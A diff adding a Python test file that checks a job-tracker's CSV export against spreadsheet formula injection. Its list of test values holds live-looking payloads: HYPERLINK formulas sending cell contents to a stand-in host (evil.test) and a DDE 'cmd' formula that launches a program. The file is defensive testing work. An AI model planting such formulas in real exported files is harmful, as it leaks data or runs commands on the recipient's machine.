@@ -1,0 +1,150 @@
+"""Hostile text in the exports (issue 12, part 4): a spreadsheet must not run a CSV cell as a
+formula. Files keep the person's text exactly; BounceBack's own CSV imports back byte for
+byte.
+
+Every test runs the installed `bounceback` as a real process on real SQLite files."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from bounceback_tui.store import Store
+from bounceback_tui.store.interchange import (
+    CSV_COLUMNS,
+    CSV_TEXT_COLUMNS,
+    FORMULA_TRIGGERS,
+    formula_guard,
+    formula_unguard,
+)
+
+TEXT_FIELDS = ("company", "role", "source", "location", "url", "notes")
+assert CSV_TEXT_COLUMNS == TEXT_FIELDS
+
+
+def exe() -> str:
+    found = shutil.which("bounceback", path=os.pathsep.join(
+        [str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
+    assert found, "the bounceback console script is not installed in this environment"
+    return found
+
+
+def environment(home: Path) -> dict[str, str]:
+    """A private home for a real `bounceback` process (the machine's time zone is kept)."""
+    env = {k: v for k, v in os.environ.items() if k != "BOUNCEBACK_DB"}
+    env.update(HOME=str(home), XDG_DATA_HOME=str(home / "data"),
+               XDG_CONFIG_HOME=str(home / "config"), XDG_STATE_HOME=str(home / "state"),
+               COLUMNS="120", PYTHONDONTWRITEBYTECODE="1", LANG="C.UTF-8")
+    return env
+
+
+@pytest.fixture
+def run(tmp_path: Path):
+    """`run(*args, db=PATH)`: the installed command, piped; returns the CompletedProcess
+    (bytes)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    env = environment(home)
+
+    def go(*args: str, db: Path) -> subprocess.CompletedProcess[bytes]:
+        return subprocess.run([exe(), "--db", str(db), *args], capture_output=True, env=env,
+                              stdin=subprocess.DEVNULL, cwd=tmp_path, timeout=120,
+                              check=False)
+
+    return go
+
+
+def ok(result: subprocess.CompletedProcess[bytes]) -> bytes:
+    assert (result.returncode, result.stderr) == (0, b""), result
+    return result.stdout
+
+
+# --- CSV: formulas ---------------------------------------------------------------------------
+
+TRIGGER_VALUES = [
+    *(f"{trigger}HYPERLINK(\"http://evil.test/?\"&A1,\"x\")" for trigger in "=+-@"),
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",  # spaces before a trigger: some readers trim them
+    "-5 degrees, no formula meant",
+    "@channel",
+    "'quoted already",
+    "''two quotes",
+    "'=half guarded",
+    "'",
+]
+"""Each trigger OWASP names (= + - @ tab CR, and LF), the guard itself, and mixtures."""
+ORDINARY_VALUES = ["Acme", "it's fine", "a=b", "x+y", "Zürich", "求职信", "5 - 3"]
+"""Text that needs no guard (a quote or trigger not at the start)."""
+
+
+def test_the_guard_is_undone_exactly() -> None:
+    """formula_unguard(formula_guard(x)) == x for every value, and a guarded cell never
+    starts with a trigger, even after leading spaces."""
+    for value in [*TRIGGER_VALUES, *ORDINARY_VALUES, "", " ", "''", "'''x", "'x", "'\t",
+                  "\t", "\r", "=", "'='"]:
+        guarded = formula_guard(value)
+        assert formula_unguard(guarded) == value, value
+        assert not guarded.startswith(FORMULA_TRIGGERS), value
+        assert not guarded.lstrip().startswith(FORMULA_TRIGGERS), value
+    assert formula_unguard("'x") == "'x"  # an export from before the guard keeps its quote
+
+
+def test_csv_export_guards_formulas_and_its_import_gives_the_text_back(run, tmp_path):
+    """Setup: one application per value (every formula trigger, the guard `'` itself and
+    ordinary text), the value in all six text fields. Action: the installed
+    `export --format csv`, then `import` of that file into an empty database.
+    Holds: no text cell starts with a trigger (nor after spaces); a cell that needed the
+    guard is the value with one `'` before it, any other is the value as is; the import
+    gives every field back byte for byte."""
+    db, fresh = tmp_path / "hunt.db", tmp_path / "fresh.db"
+    values = [*TRIGGER_VALUES, *ORDINARY_VALUES]
+    with Store.open(db) as store:
+        for value in values:
+            store.add_application(value, value, source=value, location=value, url=value,
+                                  notes=value)
+    exported = ok(run("export", "--format", "csv", db=db)).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    assert len(rows) == 1 + len(values)
+    for row in rows[1:]:
+        cells = dict(zip(CSV_COLUMNS, row, strict=True))
+        value = formula_unguard(cells["company"])
+        assert value in values
+        for name in TEXT_FIELDS:
+            cell = cells[name]
+            assert not cell.startswith(FORMULA_TRIGGERS), (name, cell)
+            assert not cell.lstrip().startswith(FORMULA_TRIGGERS), (name, cell)
+            needs_guard = value.startswith("'") or value.lstrip().startswith(FORMULA_TRIGGERS)
+            assert cell == ("'" + value if needs_guard else value), (name, cell)
+    path = tmp_path / "own.csv"
+    path.write_bytes(exported.encode("utf-8"))
+    ok(run("import", str(path), db=fresh))
+    with Store.open(fresh) as store:
+        back = sorted((tuple(getattr(a, f) for f in TEXT_FIELDS)
+                       for a in store.list_applications()))
+    assert back == sorted(tuple([value] * len(TEXT_FIELDS)) for value in values)
+
+
+def test_a_foreign_csv_is_read_as_before(run, tmp_path):
+    """Setup: a spreadsheet's CSV (not BounceBack's header) whose cells start with `'`, a
+    trigger, or spaces. Action: `import`. Holds: cells are trimmed as always and a leading
+    `'` is kept: the guard is only taken off BounceBack's own export."""
+    path = tmp_path / "sheet.csv"
+    path.write_text("Company,Title,Notes\n'=Acme,'Dev,  '=x  \n=Globex,-PM,\"a\r\nb\"\n",
+                    encoding="utf-8", newline="")
+    db = tmp_path / "hunt.db"
+    ok(run("import", str(path), db=db))
+    with Store.open(db) as store:
+        got = sorted((a.company, a.role, a.notes) for a in store.list_applications())
+    assert got == [("'=Acme", "'Dev", "'=x"), ("=Globex", "-PM", "a\nb")]
+
